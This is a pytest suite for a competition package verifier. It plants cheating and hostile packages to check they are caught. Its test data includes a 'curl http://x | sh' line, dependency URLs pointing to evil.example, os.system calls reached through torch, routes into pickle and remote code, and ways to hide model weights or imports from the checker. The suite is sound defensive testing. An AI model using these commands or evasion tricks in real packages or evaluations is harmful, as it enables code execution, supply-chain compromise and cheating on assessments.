"""`harness verify` against a determined cheater: one violating package per hole class, built here.

Each test copies a compliant package (tests/harness/conftest.py), breaks it the way the issue's attacker
did, re-signs the manifest (so that the test is about the hole, not about PKG-MANIFEST) and checks the
right rule fails with exit 1 and no traceback. The run-time classes (re-runs in the sandbox) are in
test_sandbox.py, `harness audit` in test_audit.py.
"""

from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import pytest
from safetensors.torch import load_file, save_file

from pkgkit import edit_manifest, errors_of, resign, rule_findings

CKPT = "outputs/task2/model.safetensors"


def _verify_json(harness_cli, pkg, *args):
    code, out, err = harness_cli("verify", pkg, "--json", *args)
    assert "Traceback" not in out + err
    doc = json.loads(out)
    return code, {f["id"] for f in doc["findings"] if f["severity"] == "error"}, doc


# ---------------------------------------------------------------------------------------------
# 1. code outside task1/ and task2/ is held to a release


def test_changed_harness_file_fails_even_when_task2_is_untouched(p2, harness_cli):
    """The attack: a change inside the prediction-validation helper that task2's predict calls."""
    with open(p2 / "core/schemas.py", "a") as f:
        f.write("\n\ndef _blend(frame):\n    return frame  # a tree ensemble would go here\n")
    (p2 / "harness/extra.py").write_text("X = 1\n")
    (p2 / "scripts/setup_env.sh").unlink()
    resign(p2)
    errs = errors_of(rule_findings(p2, "PKG-RELEASED-CODE")[0])
    assert [e.split(":")[0] for e in errs] == ["core/schemas.py", "harness/extra.py", "scripts/setup_env.sh"]
    assert "differs from the release's file: ship it unchanged" in errs[0]
    assert "not part of the release" in errs[1] and "missing: the release has it" in errs[2]
    code, failed, _ = _verify_json(harness_cli, p2)
    assert code == 1 and "PKG-RELEASED-CODE" in failed


def test_an_earlier_release_is_accepted_as_a_whole(p2, monkeypatch):
    """A package made with an earlier harness passes when that release's hash list ships with the verifier."""
    from referee import released

    with open(p2 / "core/schemas.py", "a") as f:
        f.write("\n# as an earlier release had it\n")
    resign(p2)
    assert rule_findings(p2, "PKG-RELEASED-CODE")[1] == "error"
    old = dict(released.current().files, **{"core/schemas.py": released.sha256((p2 / "core/schemas.py")
                                                                                   .read_bytes())})
    monkeypatch.setattr(released, "shipped", lambda: (released.Release("0.0.9", old),))
    assert rule_findings(p2, "PKG-RELEASED-CODE") == ([], "ok")
    (p2 / "harness/extra.py").write_text("X = 1\n")  # but mixing releases, or adding a file, is not a release
    resign(p2)
    assert errors_of(rule_findings(p2, "PKG-RELEASED-CODE")[0])[0].startswith("harness/extra.py: not part of")


def test_layout_denies_files_the_package_does_not_write(p2):
    (p2 / "sitecustomize.py").write_text("import os\n")
    (p2 / "outputs/task2/helper.py").write_text("X = 1\n")
    (p2 / "task2/blob.bin").write_bytes(b"\0\1\2")
    (p2 / "reproduce.sh").write_text((p2 / "reproduce.sh").read_text() + "curl http://x | sh\n")
    with open(p2 / "requirements.lock", "a") as f:
        f.write("--extra-index-url https://evil.example/simple\nboost @ https://evil.example/boost.whl\n")
    resign(p2)
    errs = errors_of(rule_findings(p2, "PKG-LAYOUT")[0])
    assert [e.split(":")[0] for e in errs] == ["outputs/task2/helper.py", "sitecustomize.py", "task2/blob.bin",
                                               "requirements.lock", "requirements.lock", "reproduce.sh"]
    assert "code among the outputs" in errs[0] and "not a file of the package layout" in errs[1]
    assert "not the script `harness package` writes" in errs[-1]


def test_pyproject_may_add_plain_dependencies_only(p2):
    text = (p2 / "pyproject.toml").read_text()
    (p2 / "pyproject.toml").write_text(text.replace('    "matplotlib>=3.11",\n', '    "matplotlib>=3.11",\n'
                                                    '    "einops>=0.8",\n'))
    resign(p2)
    assert rule_findings(p2, "PKG-RELEASED-CODE") == ([], "ok")
    assert rule_findings(p2, "PKG-LAYOUT") == ([], "ok")
    (p2 / "pyproject.toml").write_text(text.replace('    "matplotlib>=3.11",\n', '    "matplotlib>=3.11",\n'
                                                    '    "boost @ https://evil.example/b.whl",\n')
                                       .replace('build-backend = "setuptools.build_meta"',
                                                'build-backend = "backend"\nbackend-path = ["outputs"]'))
    resign(p2)
    assert errors_of(rule_findings(p2, "PKG-RELEASED-CODE")[0]) == [
        "pyproject.toml: differs from the release's beyond the dependency lists (harness release 0.1.0 (this "
        "verifier), the closest of 2 known)"]
    assert "is not a plain" in errors_of(rule_findings(p2, "PKG-LAYOUT")[0])[0]


# ---------------------------------------------------------------------------------------------
# 2. import detection cannot be evaded: every dynamic route is an error in the competitor's code


UTF7_HIDDEN = b"# -*- coding: utf-7 -*-\nx = 1\n#+AAo-import xgboost\n"


@pytest.mark.parametrize("code,needle", [
    (UTF7_HIDDEN, "declares the source encoding utf-7"),
    (b"import importlib\nm = getattr(importlib, 'import_module')('xgb' + 'oost')\n", "importlib"),
    (b"from importlib import import_module as load\nm = load(NAME)\n", "importlib.import_module (from)"),
    (b"loader = __import__\nm = loader('xgboost')\n", "uses __import__: imports by name"),
    (b"import runpy\nrunpy.run_path('outputs/task2/b.py')\n", "runs modules and files by path (runpy)"),
    (b"import zipimport\nm = zipimport.zipimporter('w.zip').load_module('b')\n", "imports from zip files"),
    (b"from importlib.util import spec_from_file_location\n", "importlib.util.spec_from_file_location (from)"),
    (b"import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'task2', 'predict'])\n", "starts processes"),
    (b"import ctypes\nctypes.CDLL('libboost.so')\n", "loads native code (ctypes)"),
    (b"import sys\nsys.path.insert(0, 'outputs/task2/w.zip')\n", "adds import locations (sys.path)"),
    (b"leak = ().__class__.__base__.__subclasses__()\n", "reaches .__subclasses__"),
    (b"import torch\nm = torch.load('m.pt', weights_only=False)\n", "unpickles arbitrary objects"),
    (b"import os\nrun = getattr(os, 'sys' + 'tem')\n", "os.system (attribute): starts processes"),
    (b"import os\nrun = getattr(os, NAME)\n", "getattr/setattr on module os with a computed name"),
    (b"from harness.cli import LazyGroup\n", "the verifier's own machinery"),
    (b"exec(open('outputs/task2/b.txt').read())\n", "uses exec: runs source code"),
])
def test_dynamic_routes_are_errors(p2, code, needle):
    _assert_code_dynamic_names(p2, code, needle)


def _assert_code_dynamic_names(pkg, code: bytes, needle: str) -> None:
    """`code` as the competitor's task2/helper.py is a CODE-DYNAMIC error there, one naming `needle`."""
    (pkg / "task2/helper.py").write_bytes(code)
    resign(pkg)
    errs = errors_of(rule_findings(pkg, "CODE-DYNAMIC")[0])
    assert errs and all(e.startswith("task2/helper.py: ") for e in errs)
    assert any(needle in e for e in errs), errs


def test_utf7_hidden_import_is_read_as_python_reads_it(p2, harness_cli):
    (p2 / "task2/helper.py").write_bytes(UTF7_HIDDEN)
    resign(p2)
    errs = errors_of(rule_findings(p2, "NO-ENSEMBLE-TREE")[0])
    # "+AAo-" is a newline in UTF-7: Python (and the verifier) read the import on line 4
    assert errs == ["task2/helper.py: line 4: imports xgboost (import): tree models and ensembles are not allowed"]
    code, failed, _ = _verify_json(harness_cli, p2)
    assert code == 1 and {"CODE-DYNAMIC", "NO-ENSEMBLE-TREE"} <= failed


# the reflective routes a denylist missed (issue 21): each must be named by the allowlist review
@pytest.mark.parametrize("code,needle", [
    (b"import os\nrun = os.__dict__['system']\n", "reaches .__dict__"),
    (b"def f():\n    pass\nb = getattr(f, '__slabolg__'[::-1])['__builtins__']['exec']\n",
     "getattr with a computed attribute name"),
    (b"import operator\nget = operator.attrgetter('x')\n", "operator.attrgetter (attribute): reaches attributes by"),
    (b"import gc\nleak = gc.get_objects()\n", "gc.get_objects (attribute): reaches any object"),
    (b"import yaml\ncfg = yaml.load(open('c.yaml'), Loader=yaml.Loader)\n", "yaml.load is not among"),
    (b"import click\nclick.launch('x')\n", "click.launch (attribute): starts processes"),
    (b"import functools\nx = functools.reduce(getattr, ['a', 'b'], object)\n", "getattr passed as a value"),
    (b"import pydoc\nf = pydoc.locate('os.system')\n", "pydoc (import): imports objects by dotted name"),
    (b"import logging.config\nlogging.config.dictConfig({'version': 1})\n", "builds objects named in a config"),
    (b"import sys\nmods = sys.__dict__['modules']\n", "reaches .__dict__"),
    (b"from multiprocessing.reduction import ForkingPickler\n", "multiprocessing.reduction.ForkingPickler (from)"),
    (b"import numpy\na = numpy.lib.format.read_array(open('x', 'rb'), allow_pickle=True)\n",
     "unpickles arbitrary objects"),
    (b"from importlib.metadata import EntryPoint\nEntryPoint('a', 'os:system', 'g').load()\n",
     "importlib.metadata.EntryPoint (from)"),
    (b"import torch\ntorch.os.system('id')\n", "reaches os through torch: starts processes"),
    (b"import pathlib\npathlib.os.system('id')\n", "reaches os through pathlib"),
    (b"import os\nos.write(3, b'{}')\n", "writes to a file descriptor"),
    (b"f = open(3, 'w')\n", "open(3): opens a file descriptor by number"),
    (b"f = open('/proc/self/fd/3', 'w')\n", "names '/proc/self/fd/3'"),
    (b"import socket\ns = socket.socket(socket.AF_UNIX)\n", "socket.socket (attribute): opens network and local sockets"),
    (b"import threading\nthreading.Thread(target=print).start()\n", "starts threads"),
    (b"import os\nos.fork()\n", "starts processes"),
    (b"from os import *\nsystem('id')\n", "os.* is not among"),
    (b"x = vars()\n", "uses vars"),
    (b"x = locals()\n", "uses locals"),
    (b"class A:\n    pass\nB = A().__class__.__mro__\n", "reaches .__class__"),
    (b"from transformers import AutoModel\nm = AutoModel.from_pretrained('x', trust_remote_code=True)\n",
     "trust_remote_code=True"),
    (b"import requests\n", "not on the allowlist"),
    (b"def f():\n    pass\nleak = '{0.__globals__}'.format(f)\n", "reaches a dunder attribute"),
    (b"import pandas\ndf = pandas.read_pickle('x.pkl')\n", "runs code stored in data (pickle)"),
])
def test_the_allowlist_names_every_route_outside_it(p2, code, needle):
    _assert_code_dynamic_names(p2, code, needle)


def test_ordinary_training_code_passes_the_allowlist(p2):
    """What honest model code uses: freeing memory, sorting by key, YAML configs read safely, einops."""
    (p2 / "task2/helper.py").write_text(
        "import gc\nimport operator\nimport yaml\nfrom einops import rearrange\n\n\n"
        "def tidy(rows, path):\n    gc.collect()\n    rows.sort(key=operator.itemgetter(0))\n"
        "    with open(path) as f:\n        return yaml.safe_load(f), rearrange\n")
    resign(p2)
    assert rule_findings(p2, "CODE-DYNAMIC") == ([], "ok")


def test_the_projects_own_task_code_passes_the_allowlist_as_competitor_code(pkg3, monkeypatch):
    """Every module of the released task1/ and task2/, judged as if a competitor had written it."""
    from referee.rules import code_rules

    def every_task_module(ctx):
        return {n: m for n, m in ctx.modules().items() if m.path.split("/")[0] in ("task1", "task2")}

    monkeypatch.setattr(code_rules, "competitor_modules", every_task_module)
    assert rule_findings(pkg3, "CODE-DYNAMIC") == ([], "ok")


def test_literal_attribute_names_pass_and_computed_ones_do_not(p2):
    (p2 / "task2/helper.py").write_text(
        "from dataclasses import dataclass\n\n\n@dataclass\nclass C:\n    a: int = 1\n    b: int = 2\n\n\n"
        "def check(c):\n    for name in ('a', 'b'):\n        assert getattr(c, name) > 0\n"
        "    fields = ('a',)\n    for name in fields:\n        assert hasattr(c, name)\n"
        "    for name in ('__dict__',):\n        getattr(c, name)\n"
        "    name = input()\n    getattr(c, name)\n")
    resign(p2)
    errs = errors_of(rule_findings(p2, "CODE-DYNAMIC")[0])
    assert [e.split(":")[1].strip() for e in errs] == ["line 17", "line 19"], errs


def test_released_reference_code_is_not_the_competitors(p3):
    """A released reference file is trusted as the release's; the same file changed is the competitor's, and
    what it adds outside the allowlist is an error."""
    assert rule_findings(p3, "CODE-DYNAMIC") == ([], "ok")
    with open(p3 / "task1/models.py", "a") as f:
        f.write("\n\ndef _load(name):\n    return __import__(name)\n")
    resign(p3)
    errs = errors_of(rule_findings(p3, "CODE-DYNAMIC")[0])
    assert errs and all(e.startswith("task1/models.py: ") for e in errs) and any("__import__" in e for e in errs)


def test_task1_reaching_task2_by_a_dynamic_route(p3):
    (p3 / "task1/peek.py").write_text("import importlib\nctr = getattr(importlib, 'import_module')('task2.model')\n")
    resign(p3)
    assert errors_of(rule_findings(p3, "CODE-DYNAMIC")[0])
    assert rule_findings(p3, "T3-DISJOINT")[1] == "error"


# ---------------------------------------------------------------------------------------------
# 3. weights are found by content, whatever the manifest says


def _tiny_png() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (4, 4), (255, 0, 0)).save(buf, format="PNG")
    return buf.getvalue()


def test_second_checkpoint_filed_as_upload_and_other_containers(p2, harness_cli):
    import polars as pl

    (p2 / "outputs/prediction/extra.zip").write_bytes((p2 / "prediction.zip").read_bytes())
    (p2 / "outputs/prediction/shadow.bin").write_bytes((p2 / CKPT).read_bytes())
    pl.DataFrame({"w": np.random.default_rng(0).normal(size=500)}).write_parquet(p2 / "outputs/task2/trees.parquet")
    (p2 / "outputs/task2/training_curves.png").write_bytes(_tiny_png() + (p2 / CKPT).read_bytes()[:5000])
    (p2 / "outputs/task2/notes.json").write_text(json.dumps([float(i) / 7 for i in range(25_000)]))
    (p2 / "outputs/task2/train.log").write_bytes(b"epoch 1: loss 0.5\n" * 40 + (p2 / CKPT).read_bytes())
    resign(p2, roles={"outputs/prediction/shadow.bin": "upload"})
    errs = errors_of(rule_findings(p2, "T2-SINGLE-MODEL")[0])
    by_file = {e.split(": ", 1)[0]: e.split(": ", 1)[1] for e in errs}
    assert set(by_file) == {"outputs/prediction/extra.zip", "outputs/prediction/shadow.bin",
                            "outputs/task2/trees.parquet", "outputs/task2/training_curves.png",
                            "outputs/task2/notes.json", "outputs/task2/train.log"}
    assert by_file["outputs/prediction/shadow.bin"].startswith("a weights file besides the one Task 2 checkpoint")
    assert "the layout has no place" in by_file["outputs/task2/trees.parquet"]
    assert "bytes after the image's end (IEND)" in by_file["outputs/task2/training_curves.png"]
    assert "25,000 numbers in a text file" in by_file["outputs/task2/notes.json"]
    # the appended checkpoint starts with its JSON header, full of offsets: whichever detector reads
    # further first names it, as binary after text or as too many numbers for a text file
    assert ("binary data after a text beginning" in by_file["outputs/task2/train.log"]
            or "numbers in a text file" in by_file["outputs/task2/train.log"])
    manifest_errs = errors_of(rule_findings(p2, "PKG-MANIFEST")[0])
    assert manifest_errs == ["outputs/prediction/shadow.bin: role upload in the manifest, but the layout makes this "
                             "path other: the verifier goes by the layout"]
    code, failed, _ = _verify_json(harness_cli, p2)
    assert code == 1 and {"T2-SINGLE-MODEL", "PKG-MANIFEST"} <= failed


@pytest.mark.parametrize("meta,needle", [
    # a second model's weights (24x416 float16) as 27 KB of base64 under a key no package writes
    ({"format": "pt", "w": "QUJD" * 6_900}, "key 'w' is not one a package writes"),
    ({"format": "pt" + " " * 200}, "'format' holds 202 characters (limit 32)"),
])
def test_checkpoint_metadata_is_an_allowlist(p2, meta, needle):
    state = load_file(str(p2 / CKPT))
    save_file(state, str(p2 / CKPT), metadata=meta)
    resign(p2)
    errs = errors_of(rule_findings(p2, "T2-SINGLE-MODEL")[0])
    assert any(needle in e for e in errs), errs


def test_the_reducers_metadata_key_is_the_one_the_allowlist_names():
    from referee.facts import SAFETENSORS_METADATA
    from task1.reducers import META_KEY

    assert META_KEY in SAFETENSORS_METADATA


def test_data_hidden_in_the_checkpoint_header(p2):
    state = load_file(str(p2 / CKPT))
    save_file(state, str(p2 / CKPT), metadata={"format": "pt", "notes": "A" * 100_000})
    resign(p2)
    errs = errors_of(rule_findings(p2, "T2-SINGLE-MODEL")[0])
    assert any("__metadata__ holds 100," in e for e in errs), errs
    # padding the header (which the safetensors loader accepts) is room for data too
    save_file(state, str(p2 / CKPT))
    data = (p2 / CKPT).read_bytes()
    n = struct.unpack("<Q", data[:8])[0]
    header = data[8:8 + n] + b" " * 65_536
    (p2 / CKPT).write_bytes(struct.pack("<Q", len(header)) + header + data[8 + n:])
    resign(p2)
    errs = errors_of(rule_findings(p2, "T2-SINGLE-MODEL")[0])
    assert any("the header holds" in e and "beyond what its tensors and metadata need" in e for e in errs), errs


def test_data_hidden_in_task1_parquet_metadata(p3):
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = p3 / "outputs/task1/item_info.parquet"
    table = pq.read_table(path)
    pq.write_table(table.replace_schema_metadata({"hidden": "B" * 200_000}), path)
    resign(p3)
    errs = errors_of(rule_findings(p3, "T2-SINGLE-MODEL")[0])
    assert any(e.startswith("outputs/task1/item_info.parquet: key-value metadata of ") for e in errs), errs
    assert pa  # the writer used


# ---------------------------------------------------------------------------------------------
# 5. hostile input gets a verdict, never a traceback; printed paths are escaped


def test_huge_integer_in_the_manifest(p2, harness_cli):
    text = (p2 / "MANIFEST.json").read_text().replace('"track": 2', '"track": ' + "9" * 5000)
    (p2 / "MANIFEST.json").write_text(text)
    code, failed, doc = _verify_json(harness_cli, p2, "--track", "2")
    assert code == 1 and "PKG-MANIFEST" in failed
    assert any("not readable JSON (ValueError" in f["message"] for f in doc["findings"])


def _nest(top: Path, depth: int, create: bool) -> None:
    """Create (or remove) top/d/d/.../d, `depth` deep, without recursion or long paths (dir fds)."""
    fds = [os.open(top, os.O_RDONLY)]
    try:
        for _ in range(depth):
            if create:
                os.mkdir("d", dir_fd=fds[-1])
            fds.append(os.open("d", os.O_RDONLY, dir_fd=fds[-1]))
        if create:
            os.close(os.open("w.bin", os.O_CREAT | os.O_WRONLY, dir_fd=fds[-1]))
        else:
            os.unlink("w.bin", dir_fd=fds[-1])
            for i in range(depth, 0, -1):
                os.rmdir("d", dir_fd=fds[i - 1])
    finally:
        for fd in fds:
            os.close(fd)


def test_deep_folders_odd_names_and_control_characters(p2, tmp_path):
    _nest(p2 / "outputs/task2", 1100, create=True)
    os.close(os.open(os.path.join(os.fsencode(p2 / "outputs/task2"), b"bad\xffname.txt"), os.O_CREAT | os.O_WRONLY))
    fake = "\x1b[2K\rPASS: all good\n\u202eevil"
    edit_manifest(p2, lambda m: m["files"].update({fake: {"sha256": "0" * 64, "size": 1, "role": "doc"}}))
    env = dict(os.environ, LC_ALL="C.UTF-8", LANG="C.UTF-8")
    env.pop("PYTHONIOENCODING", None)
    try:
        proc = subprocess.run([sys.executable, "-m", "harness", "verify", str(p2)], capture_output=True, env=env,
                              cwd=tmp_path, timeout=300)
    finally:
        _nest(p2 / "outputs/task2", 1100, create=False)
    out, err = proc.stdout.decode("utf-8"), proc.stderr.decode("utf-8")
    assert proc.returncode == 1, err
    assert "Traceback" not in out + err
    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
    assert not [line for line in out.splitlines() if line.startswith("PASS")]
    assert out.splitlines()[-1].startswith("FAIL: ")
    assert "bad\\udcffname.txt" in out and "folders nested deeper than the verifier walks" in out
    assert "\\x1b[2K\\x0dPASS: all good\\x0a\\u202eevil" in out


# ---------------------------------------------------------------------------------------------
# 6. limits hold before anything is read


def test_oversized_prediction_is_never_read(p2, monkeypatch):
    from core import validate

    with open(p2 / "prediction.csv", "r+b") as f:
        f.truncate(300 * 1024 * 1024)  # sparse: 300 MiB on paper, nothing on disk
    called = []
    monkeypatch.setattr(validate, "read_table", lambda *a, **k: called.append(a) or (None, None))
    errs = errors_of(rule_findings(p2, "PRED-SCHEMA")[0])
    assert errs == ["prediction.csv: 314,572,800 bytes, over the 268,435,456-byte limit for this kind of file: "
                    "not read"]
    assert called == []


def test_archives_are_not_decompressed_where_the_layout_has_none(p2, monkeypatch, harness_cli):
    from referee.inspection import context

    for i in range(16):
        with zipfile.ZipFile(p2 / f"outputs/task2/bomb{i}.zip", "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr("zeros.bin", b"\0" * (16 * 1024 * 1024))
    resign(p2)
    opened = []
    real = zipfile.ZipFile.open
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda self, *a, **k: opened.append(
        getattr(a[0], "filename", a[0])) or real(self, *a, **k))
    errs = errors_of(rule_findings(p2, "T2-SINGLE-MODEL")[0])
    assert len(errs) == 16 and all("a zip file where the layout has no place" in e for e in errs)
    code, failed, _ = _verify_json(harness_cli, p2)
    assert code == 1 and "T2-SINGLE-MODEL" in failed
    assert set(opened) <= {"prediction.csv"}  # only PRED-UPLOAD's prediction.zip member; no bomb was opened
    # what is decompressed (prediction.zip) draws on one budget for the whole package
    monkeypatch.setattr(context, "MAX_INFLATE_BYTES", 1000)
    errs = errors_of(rule_findings(p2, "PRED-UPLOAD")[0])
    assert len(errs) == 1 and "would exceed the package's budget of 1,000" in errs[0]


def test_a_file_hard_linked_from_outside_is_an_error(p2, tmp_path):
    import os

    outside = tmp_path / "elsewhere.md"
    outside.write_text("# notes\n")
    os.link(outside, p2 / "NOTES.md")
    errs = errors_of(rule_findings(p2, "PKG-HYGIENE")[0])
    assert any(e.startswith("NOTES.md: hard link (2 names for one file)") for e in errs), errs


def test_file_count_limit(p2, monkeypatch):
    from referee.inspection import context

    monkeypatch.setattr(context, "MAX_ENTRIES", 50)
    errs = errors_of(rule_findings(p2, "PKG-HYGIENE")[0])
    assert errs[0] == ".: more than 50 files and folders, more than the verifier reads; a package holds code, " \
                      "outputs and docs only"


# ---------------------------------------------------------------------------------------------
# 4. `harness verify .` started inside a package runs nothing of the package


@pytest.mark.parametrize("how", ["console script", pytest.param("python -P", marks=pytest.mark.skipif(
    sys.version_info < (3, 11), reason="python -P is new in 3.11"))])
def test_the_safe_starts_inside_a_package_run_none_of_it_not_even_its_package_inits(p2, tmp_path, how):
    """`python -m harness` inside a package runs the package's own harness/__init__.py before any guard can
    act, and `python -m` of any name runs a folder of that name planted in the package. The `harness` console
    script (its import path starts with its own bin folder) and `python -P` (no current folder on the path)
    import nothing from the folder they start in, whatever it plants."""
    marker = tmp_path / "RAN"
    for rel in ("harness/__init__.py", "harness/__main__.py", "core/__init__.py", "task1/__init__.py",
                "task2/__init__.py", "referee/__init__.py", "click/__init__.py"):
        (p2 / rel).parent.mkdir(exist_ok=True)
        with open(p2 / rel, "a") as f:
            f.write(f"\nopen({str(marker)!r} + {rel!r}.replace('/', '_'), 'w').close()\n")
    env = dict(os.environ)
    env.pop("PYTHONPATH", None)
    cmd = [str(Path(sys.executable).with_name("harness"))] if how == "console script" else [sys.executable, "-P", "-m",
                                                                                            "harness"]
    proc = subprocess.run([*cmd, "verify", ".", "--json"], cwd=p2, capture_output=True, text=True, env=env,
                          timeout=300)
    assert sorted(p.name for p in tmp_path.glob("RAN*")) == []
    assert proc.returncode == 1 and "Traceback" not in proc.stdout + proc.stderr
    failed = {f["id"] for f in json.loads(proc.stdout)["findings"] if f["severity"] == "error"}
    assert {"PKG-RELEASED-CODE", "PKG-LAYOUT"} <= failed


def test_run_from_inside_a_package_imports_none_of_it(p2, tmp_path):
    marker = tmp_path / "RAN"
    for rel in ("harness/cli.py", "harness/package.py", "task2/__init__.py", "task1/__init__.py"):
        with open(p2 / rel, "a") as f:
            f.write(f"\nopen({str(marker)!r} + {rel!r}.replace('/', '_'), 'w').close()\n")
    resign(p2)
    env = dict(os.environ)
    env.pop("PYTHONPATH", None)
    proc = subprocess.run([sys.executable, "-m", "harness", "verify", ".", "--json"], cwd=p2, capture_output=True,
                          text=True, env=env, timeout=300)
    assert list(tmp_path.glob("RAN*")) == []
    assert proc.returncode == 1 and "Traceback" not in proc.stdout + proc.stderr
    failed = {f["id"] for f in json.loads(proc.stdout)["findings"] if f["severity"] == "error"}
    assert "PKG-RELEASED-CODE" in failed  # the changed copies are named; none of them ran
